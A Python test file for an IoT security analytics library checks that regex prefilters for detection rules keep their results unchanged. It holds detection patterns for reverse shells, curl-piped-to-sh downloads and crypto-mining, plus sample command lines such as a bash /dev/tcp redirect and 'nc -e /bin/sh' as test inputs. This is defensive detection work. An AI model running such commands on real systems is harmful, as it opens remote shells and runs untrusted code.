"""Regex prefilters: the literals found are necessary, and using them never changes a result."""

from __future__ import annotations

import doctest
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from iotsec.analytics.rules import prefilter as prefilter_module
from iotsec.analytics.rules.prefilter import needles
from tests.analytics.rules.test_conditions import predicate, with_field


def test_doctests() -> None:
    assert doctest.testmod(prefilter_module).failed == 0


@pytest.mark.parametrize(
    ("pattern", "expected"),
    [
        (r"/dev/tcp/", {"/dev/tcp/"}),
        (r"(?i)^(?=.*?\bsocat\b)(?=.*?exec:)", {"socat"}),  # lookaheads are necessary too
        (r"(?:nc|ncat|netcat)\s+\d", {"nc", "ncat", "netcat"}),  # the parser's shared prefix
        (r"(?:wget|curl)\s.*\|\s*sh", {"wget", "curl"}),
        (r"x(?:abc)+y", {"abc"}),
        (r"(?:abc)?def", {"def"}),
        (r"[a-z]+\d+", None),
        (r"a|b", None),  # too short to be worth it
        (r"(?:foo|\d+)bar", {"bar"}),  # a branch without a literal gives nothing
        (r"grüße", None),  # a non-ASCII literal could match ASCII under IGNORECASE
        ("(?:" + "|".join(f"{chr(97 + i % 26)}{i:02d}w" for i in range(40)) + ")", None),
    ],
)
def test_needles(pattern: str, expected: set[str] | None) -> None:
    found = needles(re.compile(pattern, re.IGNORECASE))
    assert (set(found) if found is not None else None) == expected


def test_non_ascii_text_skips_the_prefilter() -> None:
    # Under IGNORECASE the long s (U+017F) matches "s"; lower-casing does not make it an "s".
    test = predicate("{field: CommandLine, regex: 'some'}")
    assert test(with_field("\u017fome", "CommandLine"))
    assert test(with_field("SOME", "CommandLine"))
    assert not test(with_field("sum", "CommandLine"))


def test_regex_tests_on_one_field_are_evaluated_together() -> None:
    test = predicate(
        "{any: [{field: CommandLine, regex: 'nc\\s+-e'}, {field: Executable, equals: /bin/x},"
        " {field: CommandLine, regex: '/dev/tcp/', case: sensitive},"
        " {field: Executable, regex: 'socat$'}]}"
    )
    assert test(with_field("NC -e /bin/sh", "CommandLine"))
    assert test(with_field("bash >& /dev/tcp/1.2.3.4/9", "CommandLine"))
    assert not test(with_field("bash >& /DEV/TCP/1.2.3.4/9", "CommandLine"))
    assert test(with_field("/usr/bin/socat"))
    assert test(with_field("/bin/x"))
    assert not test(with_field("/bin/y"))


PATTERNS = [
    r"(?i)(?:^|[\s;&|])(?:ba|da|k|z)?sh\s+-i\s*[<>]&?\s*/dev/(?:tcp|udp)/",
    r"(?i)\bnc(?:at)?\b.*\s-[ec]\s",
    r"(?i)(?:curl|wget)\s[^|;]*\|\s*(?:ba)?sh\b",
    r"(?i)^(?=.*?\bsocket\b)(?=.*?(?:dup2|pty\.spawn))python",
    r"(?-i:XMRig)|stratum\+tcp://",
]
texts = st.text(alphabet=st.sampled_from(list("abcdehiklnoprstwxyz |-;&/>.:+()\u017f\u212a")))
words = st.sampled_from(
    [
        "nc -e",
        "bash -i >& /dev/tcp/",
        "curl x | sh",
        "python socket dup2",
        "XMRig",
        "stratum+tcp://",
    ]
)


@settings(max_examples=300)
@given(st.lists(st.one_of(texts, words), max_size=6).map(" ".join), st.sampled_from(PATTERNS))
def test_the_prefilter_never_changes_a_result(text: str, pattern: str) -> None:
    compiled = re.compile(pattern, re.IGNORECASE)
    quoted = pattern.replace("'", "''")
    test = predicate(f"{{field: CommandLine, regex: '{quoted}'}}")
    assert test(with_field(text, "CommandLine")) is (compiled.search(text) is not None)
